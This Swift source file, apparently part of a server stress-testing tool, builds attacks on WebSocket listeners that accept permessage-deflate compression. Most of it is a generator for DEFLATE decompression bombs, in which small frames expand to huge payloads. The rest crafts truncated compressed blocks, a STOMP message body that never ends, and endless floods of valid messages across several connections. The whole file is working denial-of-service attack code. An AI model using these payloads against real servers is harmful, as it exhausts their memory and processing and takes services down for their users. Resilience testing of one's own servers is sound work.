// Attacks with compressed messages (RFC 7692), on listeners that have agreed to them.
extension Script {
    init(ofCompression attack: Attack) {
        self.init()
        let request = Self.request("Sec-WebSocket-Extensions: permessage-deflate\r\n")
        let start = request + Self.frame(0x81, Self.connect)
        if attack == .halfMessages {
            // A stored block of which the last byte is missing.
            opening = { _ in start + Self.frame(0x41, [0x00, 2, 0, 0xFD, 0xFF, 0x0A]) }
            return
        }
        let lines = Bomb(filler: 0x0A, count: 200_000)
        let short = Bomb(filler: 0x0A, count: 250)
        let body = Bomb(filler: 0x78, count: 20_000)
        let header = Self.bytes("SEND\ndestination:/topic/attack\n\n")
        let stored = [0x00, UInt8(header.count), 0, ~UInt8(header.count), 0xFF] + header
        opening = { connection in connection % 3 == 1 ? start + Self.frame(0x41, stored) : start }
        piece = { connection, _ in
            switch connection % 3 {
            // One message that is too long, a body that does not end, and messages that are allowed, without end.
            case 0: Self.frame(0xC1, Array(lines.bytes.prefix(60_000)))
            case 1: Self.frame(0x00, body.bytes)
            default: Self.frame(0xC1, short.bytes + [0])
            }
        }
    }

    /// A block of DEFLATE with fixed codes (RFC 1951, section 3.2.6): an octet, and references to it of 258 bytes each,
    /// which take 13 bits. It ends at the end of a byte, with an empty stored block.
    private struct Bomb {
        private(set) var bytes: [UInt8] = []
        private var bits: UInt32 = 0
        private var bitCount: UInt32 = 0

        init(filler: UInt8, count: Int) {
            add(0b010, 3)
            addCode(0x30 + UInt32(filler), 8)
            for _ in 0..<count {
                // Length 258 is the code 285; distance 1 is the code 0.
                addCode(0b1100_0101, 8)
                addCode(0, 5)
            }
            addCode(0, 7)
            add(0, 3)
            if bitCount > 0 { add(0, 8 - bitCount) }
            bytes += [0, 0, 0xFF, 0xFF]
        }

        /// The least significant bit first.
        private mutating func add(_ value: UInt32, _ count: UInt32) {
            bits |= value << bitCount
            bitCount += count
            while bitCount >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: bits))
                bits >>= 8
                bitCount -= 8
            }
        }

        /// A code: its most significant bit first.
        private mutating func addCode(_ code: UInt32, _ count: UInt32) {
            for place in (0..<count).reversed() { add(code >> place & 1, 1) }
        }
    }
}
